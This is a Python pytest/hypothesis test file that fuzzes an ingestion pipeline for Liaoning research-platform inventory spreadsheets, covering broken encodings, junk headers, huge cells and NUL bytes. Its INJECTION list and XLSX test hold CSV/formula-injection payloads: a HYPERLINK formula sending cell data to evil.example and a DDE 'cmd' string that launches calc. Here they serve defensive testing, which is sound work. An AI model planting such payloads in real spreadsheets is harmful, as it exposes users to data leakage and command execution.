"""Bad inventories (issue 7): random headers, missing/duplicated columns, empty and huge cells, mixed and
broken encodings, CSV-injection strings. Every file either loads or fails with an error naming the file
and why; a failed file changes nothing already stored; the good file in the same batch still loads."""

from __future__ import annotations

import itertools
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.store.protocol import GraphStore, StoreError
from ingest.pipeline.run import ingest_paths
from tests.faults._graph import digest, documents_not_complete, duplicate_ids
from tests.faults.conftest import GOOD_ROWS, write_good

KNOWN = ["序号", "平台名称", "名称", "依托单位", "共建单位", "所在地市", "批准年份", "研究方向", "级别", "状态", "类型"]
JUNK = ["备注", "", "  ", "=SUM(A1:A9)", "联系人", "电话", "平台名称（盖章）", "x" * 300]
INJECTION = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
CELL = st.one_of(
    st.sampled_from(
        ["", " ", "辽宁省先进材料重点实验室", "东北大学", "沈阳市", "2015", "二〇一五年", "国家级", "9999"]
    ),
    st.sampled_from(INJECTION),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
    st.integers(2_000, 8_000).map(lambda n: "材" * n),  # huge cells (50k+ in bench/fault_inputs.py)
    st.builds(lambda a, b: f"{a}{b}重点实验室", st.sampled_from(["辽宁省", "沈阳市", ""]), st.text(max_size=8)),
)
ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "big5", "broken"]
_serial = itertools.count()


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text


@st.composite
def inventories(draw: st.DrawFn) -> tuple[bytes, str]:
    header = draw(st.lists(st.sampled_from(KNOWN + JUNK), min_size=0, max_size=9))  # missing / duplicated
    n_rows = draw(st.integers(0, 12))
    rows = [draw(st.lists(CELL, min_size=0, max_size=len(header) + 2)) for _ in range(n_rows)]
    text = "\n".join(",".join(_csv_cell(c) for c in r) for r in [header, *rows])
    enc = draw(st.sampled_from(ENCODINGS))
    if enc == "broken":
        data = text.encode("utf-8")
        cut = draw(st.integers(0, len(data)))
        data = data[:cut] + draw(st.binary(min_size=1, max_size=8)) + data[cut:]
    else:
        data = text.encode(enc, errors="replace")
    return data, enc


def _check_outcome(outcome: object, path: Path) -> None:
    error = getattr(outcome, "error", None)
    if error is not None:
        assert error.path == path, error
        assert error.reason.strip(), error
        assert str(path) in str(error)
    for r in getattr(outcome, "rejects", []):
        assert r["file"] == str(path) and r["row"] is not None and r["reason"], r


@settings(max_examples=20, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(case=inventories())
def test_random_inventory_never_breaks_the_batch(loaded: GraphStore, tmp_path: Path, case: tuple[bytes, str]) -> None:
    data, _ = case
    before = digest(loaded)
    bad = tmp_path / f"辽宁省_平台名单_fuzz{next(_serial)}.csv"
    bad.write_bytes(data)
    other = write_good(tmp_path, f"辽宁省_平台名单_ok{next(_serial)}")
    report = ingest_paths(loaded, [bad, other], workers=0, bulk=False)
    by_path = {f.path: f for f in report.files}
    _check_outcome(by_path[bad], bad)
    assert by_path[other].error is None and by_path[other].result is not None
    assert by_path[other].rows_read == len(GOOD_ROWS)
    after = digest(loaded)
    assert after.nodes.get("Document", 0) == before.nodes.get("Document", 0) + 1 + (by_path[bad].error is None)
    if by_path[bad].error is not None and by_path[bad].rows_read == 0:
        # Only the good file's Document (+ its evidence) may be new: nothing else was touched.
        assert after.nodes.get("Platform") == before.nodes.get("Platform")
    assert not duplicate_ids(loaded)
    assert not documents_not_complete(loaded)


def test_failed_file_leaves_the_store_exactly_as_it_was(loaded: GraphStore, tmp_path: Path) -> None:
    cases = {
        "empty": b"",
        "binary": bytes(range(256)) * 8,
        "broken": "平台名称,依托单位\n辽宁省某重点实验室,东北大学\n".encode()[:-9] + b"\xff\xfe\x80",
        "no_name_column": '依托单位,备注\n东北大学,=HYPERLINK("x")\n'.encode(),
        "header_only_junk": b"a,b,c\n",
        # A NUL past the 4 KiB binary sniff used to reach the store and abort the whole batch.
        "late_nul": (
            "平台名称,依托单位\n" + "辽宁省材料重点实验室,东北大学\n" * 300 + "辽宁省\x00重点实验室,东北大学\n"
        ).encode(),
    }
    before = digest(loaded)
    paths = []
    for name, data in cases.items():
        p = tmp_path / f"辽宁省_平台名单_{name}.csv"
        p.write_bytes(data)
        paths.append(p)
    report = ingest_paths(loaded, paths, workers=0, bulk=False)
    assert len(report.failed) == len(cases)
    for f in report.failed:
        assert f.error is not None and str(f.path) in str(f.error)
    assert digest(loaded) == before


def test_xlsx_formula_and_merged_cells(loaded: GraphStore, tmp_path: Path) -> None:
    path = tmp_path / "辽宁省_平台名单_xlsx.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["辽宁省平台名单"])
    ws.merge_cells("A1:D1")  # a merged title row above the header
    ws.append(["序号", "平台名称", "依托单位", "所在地市"])
    ws.append([1, "辽宁省海洋工程技术创新中心", "大连海事大学", "大连市"])
    ws.append([2, '=HYPERLINK("http://evil.example","辽宁省恶意重点实验室")', "东北大学", "沈阳市"])
    ws.append([3, "辽宁省合并单元格重点实验室", "东北大学", "=A1"])
    ws.merge_cells("C3:C4")
    wb.save(path)
    report = ingest_paths(loaded, [path], workers=0, bulk=False)
    (f,) = report.files
    _check_outcome(f, path)
    assert f.error is None, f.error
    names = {r["name"] for r in loaded.read("MATCH (p:Platform) RETURN p.name AS name")}
    assert "辽宁省海洋工程技术创新中心" in names


def test_late_nul_in_a_policy_text_is_a_clear_error(loaded: GraphStore, tmp_path: Path) -> None:
    text = "第一条 为加快建设科技创新平台，制定本方案。\n" * 400
    path = tmp_path / "policy_nul.txt"
    path.write_bytes(text.encode() + b"\x00tail")
    good = tmp_path / "policy_ok.txt"
    good.write_text(text, encoding="utf-8")
    before = digest(loaded)
    report = ingest_paths(loaded, [path, good], workers=0, bulk=False)
    bad, ok = report.files
    assert bad.error is not None and bad.error.offset == len(text) and "NUL" in bad.error.reason
    assert ok.error is None
    assert digest(loaded).nodes.get("Document") == before.nodes.get("Document", 0) + 1


def test_a_huge_cell_is_dropped_and_the_row_still_loads(loaded: GraphStore, tmp_path: Path) -> None:
    """An 8,000-character host cell (24 KB in UTF-8) once reached Neo4j, whose index refuses keys over
    8,167 bytes, and the whole file failed. The row loads without the cell; the reject names row and column."""
    path = tmp_path / "辽宁省_平台名单_huge_cell.csv"
    path.write_text("平台名称,依托单位\n辽宁省超长单元格重点实验室," + "材" * 8_000 + "\n", encoding="utf-8")
    report = ingest_paths(loaded, [path], workers=0, bulk=False)
    [outcome] = report.files
    assert outcome.error is None, outcome.error
    [reject] = [r for r in outcome.rejects if r["column"] == "host"]
    assert reject["row"] == 2 and "8,000 characters" in reject["reason"]
    names = loaded.read("MATCH (p:Platform) WHERE p.name = '辽宁省超长单元格重点实验室' RETURN p.id AS id")
    assert len(names) == 1


def test_a_refused_new_document_leaves_nothing(
    loaded: GraphStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The store refuses a statement mid-load (after the Document node was written): the file fails with
    its path in the error, and the store is exactly as before, no 'loading' document left behind."""
    import app.store.loader as loader

    def refuse(*_: object, **__: object) -> object:
        raise StoreError("refused by the test")

    before = digest(loaded)
    monkeypatch.setattr(loader, "write_prepared", refuse)
    bad = write_good(tmp_path, "辽宁省_平台名单_refused")
    report = ingest_paths(loaded, [bad], workers=0, bulk=False)
    [outcome] = report.files
    assert outcome.error is not None and str(bad) in str(outcome.error) and "refused by the test" in str(outcome.error)
    assert digest(loaded) == before
    assert not documents_not_complete(loaded)
